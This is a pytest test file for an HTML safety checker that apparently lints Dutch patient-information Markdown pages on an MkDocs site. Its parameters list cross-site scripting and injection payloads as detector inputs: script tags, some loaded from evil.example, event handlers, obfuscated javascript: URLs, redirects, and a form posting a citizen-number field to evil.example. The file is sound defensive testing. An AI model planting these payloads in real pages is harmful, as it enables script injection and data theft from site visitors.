import datetime as dt

import pytest
from tests.conftest import GOOD_BODY, GOOD_META, page_text

from patienthub import load_project, load_site, run
from patienthub.checks import html

BODY_LINE = page_text().split("\n").index("# Lage rugpijn") + 1


def html_findings(repo, body: str, meta: str = GOOD_META, config: str = ""):
    if config:
        text = (
            (repo.root / "mkdocs.yml").read_text().replace("  - patienthub\n", f"  - patienthub:\n{config}")
        )
        repo.write("mkdocs.yml", text)
    repo.page("index.md", meta=meta, body=body)
    site = load_site(load_project(repo.root / "mkdocs.yml"), dt.date(2026, 11, 22))
    return [(f.rule, f.line) for f in run(site).findings if f.rule.startswith("html.")]


def at(offset: int) -> int:
    """File line of the body line `offset` lines below the page's H1."""
    return BODY_LINE + offset


@pytest.mark.parametrize(
    ("snippet", "rule"),
    [
        ("<script>alert(1)</script>", "html.script"),
        ("<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "html.script"),
        ('<img src="x.png" alt="x" onerror="alert(1)">', "html.event-handler"),
        ('<svg onload="alert(1)"></svg>', "html.event-handler"),
        ('[klik](x.md){ onclick="alert(1)" }', "html.event-handler"),
        ("[klik](javascript:alert(1))", "html.unsafe-url"),
        ("[klik](JaVaScRiPt:alert(1))", "html.unsafe-url"),
        ("[klik](&#106;avascript:alert(1))", "html.unsafe-url"),
        ('<a href="java&#x09;script:alert(1)">klik</a>', "html.unsafe-url"),
        ("[klik](data:text/html;base64,PHNjcmlwdD4=)", "html.unsafe-url"),
        ('<a href="vbscript:msgbox(1)">klik</a>', "html.unsafe-url"),
        ('<iframe src="https://evil.example/"></iframe>', "html.embed"),
        ('<object data="x.swf"></object>', "html.embed"),
        ('<embed src="x.swf">', "html.embed"),
        ('<form action="https://evil.example/"><input name="bsn"></form>', "html.form"),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "html.forbidden-element"),
        ('<base href="https://evil.example/">', "html.forbidden-element"),
        ("<style>body{display:none}</style>", "html.forbidden-element"),
        ('<p style="color:red">rood</p>', "html.inline-style"),
        ("![Rug](https://tracker.example/rug.png)", "html.external-resource"),
        ('<img src="//tracker.example/x.png" alt="x">', "html.external-resource"),
        ("<p>open <!-- kapot</p>", "html.unparsable"),
        ("# Nog een hoofdkop", "html.multiple-h1"),
    ],
)
def test_each_rule_with_its_line(repo, snippet, rule):
    body = f"{GOOD_BODY}\nTekst.\n\n{snippet}\n"
    assert html_findings(repo, body) == [(rule, at(GOOD_BODY.count("\n") + 3))]


def test_an_unclosed_script_is_refused_and_swallows_the_rest(repo):
    # Python-Markdown does not escape "<" after a backslash: this is a real <script> on the site.
    body = f"{GOOD_BODY}\nTekst.\n\nEen \\<script> is geen tekst.\n"
    line = at(GOOD_BODY.count("\n") + 3)
    assert html_findings(repo, body) == [("html.script", line), ("html.unparsable", line)]


def test_reference_definition_with_javascript_is_reported_at_the_definition(repo):
    body = f"{GOOD_BODY}\nZie [hier][x] en nog eens [hier][x].\n\n[x]: javascript:alert(1)\n"
    assert html_findings(repo, body) == [("html.unsafe-url", at(GOOD_BODY.count("\n") + 3))]


@pytest.mark.parametrize(
    "snippet",
    [
        "`<script>alert(1)</script>` in inline code",
        "```html\n<script>alert(1)</script>\n<iframe src='x'></iframe>\n```",
        "    <script>alert(1)</script>",
        "<!-- <script>alert(1)</script> -->",
        "Een &lt;script&gt; als tekst, en `<script>` ook.",
        "<![ wordt tekst, want Markdown maakt er &lt;![ van",
        "![Schema van de rug](data:image/png;base64,iVBORw0KGgo=)",
        '<img src="assets/rug.png" alt="">',
        "Bij 3 < 5 en [javascript: wat is dat?](uitleg.md)",
    ],
)
def test_text_about_html_is_not_html(repo, snippet):
    repo.write("content/uitleg.md", page_text())
    assert html_findings(repo, f"{GOOD_BODY}\n{snippet}\n") == []


def test_allowlisted_embed_is_accepted_and_others_are_not(repo):
    config = "      html:\n        allowed_embeds: [https://www.youtube-nocookie.com/embed/]\n"
    body = (
        f"{GOOD_BODY}\n"
        '<iframe src="https://www.youtube-nocookie.com/embed/abc" title="Oefening"></iframe>\n\n'
        '<iframe src="https://www.youtube-nocookie.com/embed/../../evil"></iframe>\n\n'
        '<iframe srcdoc="<script>x</script>" src="https://www.youtube-nocookie.com/embed/a"></iframe>\n'
    )
    n = GOOD_BODY.count("\n")
    assert html_findings(repo, body, config=config) == [("html.embed", at(n + 3)), ("html.embed", at(n + 5))]


def test_front_matter_markup(repo):
    meta = GOOD_META.replace("title: Lage rugpijn", "title: Lage rugpijn</title><script>alert(1)</script>")
    meta = meta.replace("description: Pijn onder in de rug", """description: 'Pijn "onder" in de rug""")
    meta = meta.replace("vanzelf over.", "vanzelf over.'")
    assert html_findings(repo, GOOD_BODY, meta=meta) == [
        ("html.frontmatter-markup", 2),
        ("html.frontmatter-markup", 3),
    ]


def test_quotes_are_fine_where_no_attribute_holds_them(repo):
    meta = GOOD_META.replace(
        "- title: NHG-Standaard Aspecifieke lagerugpijn",
        """- title: 'NHG-Standaard "Aspecifieke lagerugpijn"'""",
    )
    assert '"Aspecifieke' in meta
    assert html_findings(repo, GOOD_BODY, meta=meta) == []


def test_every_rule_has_a_dutch_summary():
    assert {rule.id for rule in html.RULES} >= {
        "html.script",
        "html.event-handler",
        "html.unsafe-url",
        "html.embed",
    }
    assert all(rule.summary and rule.id.startswith("html.") for rule in html.RULES)


def test_a_list_right_under_a_paragraph_is_reported_where_it_starts(repo):
    body = f"{GOOD_BODY}\nDit kunt u doen:\n- Blijf bewegen.\n- Neem zo nodig paracetamol.\n\nGoed:\n\n- Een echte lijst.\n"
    n = GOOD_BODY.count("\n")
    assert html_findings(repo, body) == [("html.glued-list", at(n + 2))]


def test_a_heading_without_a_space_is_a_heading_on_the_site(repo):
    body = f"{GOOD_BODY}\n#Nog een kop\n"
    assert html_findings(repo, body) == [("html.multiple-h1", at(GOOD_BODY.count("\n") + 1))]


def test_a_generated_page_found_clean_is_not_rendered_again_but_a_faulty_one_always_is(repo, monkeypatch):
    # On an edit of one page the glossary, search and evidence pages are usually the same: their clean verdict
    # is kept (in the cache between runs); a finding is always worked out anew (its line comes from data files).
    site = load_site(load_project(repo.root / "mkdocs.yml"), dt.date(2026, 11, 22))
    rendered = []
    real = html.render.to_html
    monkeypatch.setattr(
        html.render, "to_html", lambda body, setup: rendered.append(body) or real(body, setup)
    )
    clean = "---\ntitle: Woorden\n---\n\n# Woorden\n\nGewone tekst die niemand eerder schreef: 4711.\n"
    faulty = "---\ntitle: Woorden\n---\n\n# Woorden\n\nTekst.\n\n<script>alert(4711)</script>\n"
    for _ in range(2):
        assert html._generated_page_findings("woorden.md", clean, site) == []
    assert len(rendered) == 1
    for _ in range(2):
        found = html._generated_page_findings("woorden.md", faulty, site)
        assert [(f.rule, f.path) for f in found] == [("html.script", "woorden.md")]
    assert len(rendered) == 3
